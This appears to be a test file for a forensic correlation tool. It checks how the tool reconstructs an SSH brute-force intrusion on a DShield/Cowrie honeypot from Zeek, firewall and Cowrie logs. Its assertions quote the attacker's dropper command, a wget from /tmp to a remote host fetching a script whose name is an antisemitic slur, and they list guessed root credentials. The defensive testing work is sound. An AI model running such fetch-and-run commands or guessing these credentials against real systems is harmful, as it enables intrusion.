/**
 * DShield/Cowrie honeypot (NARRATIVE.md): 138.197.148.152 probes on Jan 6 and 7, guesses SSH
 * passwords on port 2222 and logs in 8 times as root on 2024-01-10, then runs a dropper from
 * 213.255.246.81. The whole case is ingested as a responder receives it: Zeek, the DShield firewall
 * log, and Cowrie's JSON and text logs (which hold the same sessions twice). Seed: the attacker's address.
 */
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { query } from '../helpers/case.js';
import { tempDir } from '../helpers/cli.js';
import { attackDir, correlateJson, ingestCase, near } from '../helpers/attacks.js';

const dir = attackDir('dshield-honeypot-ssh-bruteforce');

describe.skipIf(!dir)('DShield honeypot: SSH guessing, root logins and a dropper seen by Zeek, the firewall and Cowrie', () => {
  const tmp = tempDir();
  const casePath = join(tmp.path, 'case.duckdb');
  let f: any;
  const timeline = (prefix: string) => f.timeline.filter((t: any) => t.summary.startsWith(prefix));
  beforeAll(async () => {
    await ingestCase(casePath, [dir!]);
    const r = await correlateJson(casePath, ['--seed', 'ip:138.197.148.152']);
    expect(r.code, r.stderr).toBe(0);
    f = r.f;
  }, 300_000);
  afterAll(() => tmp.cleanup());

  it('ingests every evidence file with no warning (Zeek, the epoch-prefixed firewall log, Cowrie JSON and text)', async () => {
    const rows = await query<{ path: string; format: string; warnings: number }>(casePath, `SELECT path, format, warnings::INTEGER AS warnings FROM evidence WHERE status = 'ingested' ORDER BY path`);
    expect(rows.map((r) => [r.path.slice(dir!.length + 1), r.format, r.warnings])).toEqual([
      ['cowrie/cowrie.2024-01-10.json', 'cowrie_json', 0],
      ['cowrie/cowrie.2024-01-10.log', 'cowrie_log', 0],
      ['firewall/dshield.log', 'dshield_firewall', 0],
      ['zeek/conn.log', 'zeek_tsv', 0],
      ['zeek/notice.log', 'zeek_tsv', 0],
      ['zeek/ssh.log', 'zeek_tsv', 0],
    ]);
  });

  it('names the attacker (scanner and login source), the dropper host 213.255.246.81 from the commands Cowrie logged, and the honeypot as the compromised host', () => {
    expect(f.ips).toEqual([
      expect.objectContaining({ ip: '138.197.148.152', roles: ['login_source', 'scanner'] }),
      expect.objectContaining({ ip: '213.255.246.81', roles: ['payload_host'] }),
    ]);
    expect(f.entities.filter((e: any) => e.kind === 'host').map((e: any) => e.value)).toEqual(['172.31.5.68']);
  });

  it('dates it as the narrative does: first probe 2024-01-06 16:41:27 (firewall and conn.log), first of 8 root logins 02:02:07 after the guessing, last activity by 02:23:47', () => {
    expect(near(f.answers.first_recon_at, '2024-01-06T16:41:27Z', 1)).toBe(true);
    expect(timeline('firewall logged DSHIELDINPUT').map((t: any) => t.ts)).toEqual(['2024-01-06T16:41:27Z', '2024-01-07T22:43:37Z']);
    expect(near(f.answers.initial_access_at, '2024-01-10T02:02:07Z', 1)).toBe(true);
    expect(f.answers.initial_access_vector).toMatch(/^ssh brute force of .*172\.31\.5\.68 port 2222 from 138\.197\.148\.152 \(32 failed attempts before\)/);
    expect(near(f.answers.last_attacker_activity_at, '2024-01-10T02:23:47Z', 10)).toBe(true);
  });

  it('lists each login once per sensor: 8 seen by Zeek, 8 root logins by Cowrie (its text log\'s twins set aside), 224 failed guesses', () => {
    expect(timeline('ssh login from ')).toHaveLength(8);
    const root = timeline('ssh login for root from 138.197.148.152 ');
    expect(root.map((t: any) => t.ts.slice(0, 19))).toEqual([...Array(2).fill('2024-01-10T02:02:07'), ...Array(6).fill('2024-01-10T02:03:08')]);
    expect(root.every((t: any) => t.evidence.file.endsWith('.json'))).toBe(true);
    expect(timeline('failed ssh login for ')).toHaveLength(224);
    expect(f.notes.join('\n')).toMatch(/\d+ event\(s\) left out of the correlation as twins/);
  });

  it('finds the password, the client, the 28 credential pairs and the top guesses as the Quick Stats give them', async () => {
    const ok = await query<{ p: string; n: number }>(casePath, `SELECT attrs->>'password' AS p, count(*)::INTEGER AS n FROM events JOIN evidence v USING (evidence_id) WHERE v.format = 'cowrie_json' AND action = 'ssh_login' GROUP BY 1`);
    expect(ok).toEqual([{ p: '12345678', n: 8 }]);
    const pairs = await query<{ pair: string; n: number }>(casePath, `SELECT actor || '/' || (attrs->>'password') AS pair, count(*)::INTEGER AS n FROM events JOIN evidence v USING (evidence_id) WHERE v.format = 'cowrie_json' AND action IN ('ssh_login', 'ssh_login_failed') GROUP BY 1 ORDER BY n DESC, pair`);
    expect(pairs).toHaveLength(28);
    expect(pairs[0]).toEqual({ pair: 'testuser/testuser', n: 16 });
    for (const p of ['root/root', 'root/123456', 'root/admin', 'root/test']) expect(pairs.find((x) => x.pair === p)?.n, p).toBe(8);
    const clients = await query<{ v: string }>(casePath, `SELECT DISTINCT attrs->>'version' AS v FROM events WHERE action = 'cowrie_client_version'`);
    expect(clients).toEqual([{ v: 'SSH-2.0-libssh2_1.4.3' }]);
  });

  it('shows the 8 dropper command lines (02:02:07–02:03:09) and the 8 failed downloads of the dropper: the report’s "1 malware sample downloaded" is not confirmed', () => {
    const cmds = timeline('command from 138.197.148.152 as root: cd /tmp');
    expect(cmds).toHaveLength(8);
    expect(cmds[0].ts.slice(0, 19)).toBe('2024-01-10T02:02:07');
    expect(cmds[7].ts.slice(0, 19)).toBe('2024-01-10T02:03:09');
    expect(cmds.every((c: any) => c.summary.includes('wget http://213.255.246.81/fuckjewishpeople.sh'))).toBe(true);
    expect(timeline('failed download of http://213.255.246.81/fuckjewishpeople.sh')).toHaveLength(8);
    expect(timeline('download of ')).toHaveLength(0);
  });

  it('joins Zeek’s 8 successful ssh rows to Cowrie’s 8 logins by client port, Zeek 0.44–0.95 s earlier', async () => {
    const rows = await query<{ port: number; d: number }>(
      casePath,
      `SELECT z.src_port AS port, (epoch_us(c.ts) - epoch_us(z.ts)) / 1e6 AS d
       FROM events z JOIN events c ON c.src_port = z.src_port AND c.action = 'ssh_login' AND c.source <> z.source
       JOIN evidence v ON v.evidence_id = c.evidence_id AND v.format = 'cowrie_json'
       WHERE z.action = 'ssh_login' AND z.source = 'zeek' ORDER BY port`,
    );
    expect(rows.map((r) => r.port)).toEqual([35088, 35446, 41690, 42122, 42370, 42848, 45984, 46590]);
    for (const r of rows) expect(r.d).toBeGreaterThan(0.43), expect(r.d).toBeLessThan(0.96);
  });

  it('--auto finds the same attacker from the brute force that succeeded', async () => {
    const r = await correlateJson(casePath, ['--auto']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.f.parameters.seeds_used.map((s: any) => s.value)).toEqual(['138.197.148.152']);
    expect(r.stderr).toMatch(/seed ip:138\.197\.148\.152: detection access\.ssh_success_after_bruteforce/);
  }, 300_000);

  it.fails('names root as the account of the initial access (known failure: the earliest record of the first login is Zeek’s, stamped at connection start without the account; Cowrie names root 0.46 s later, but the findings describe the earliest record only)', () => {
    expect(f.answers.initial_access_vector).toMatch(/root/);
  });
});
